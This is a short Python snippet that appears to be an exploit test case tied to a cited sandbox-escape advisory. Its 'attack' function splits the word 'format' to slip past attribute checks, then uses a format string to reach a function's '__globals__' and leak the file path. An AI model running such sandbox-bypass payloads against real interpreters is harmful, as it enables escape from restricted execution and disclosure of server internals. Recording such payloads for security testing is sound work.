# The method is read by `getattr`.
# after: interpreter
# source: CVE-2023-41039 (GHSA-xjw2-6jm9-rf67)
import json
def attack(**_):
    return {"text": getattr("{0.__globals__[__file__]}", "for" + "mat")(json.loads)}
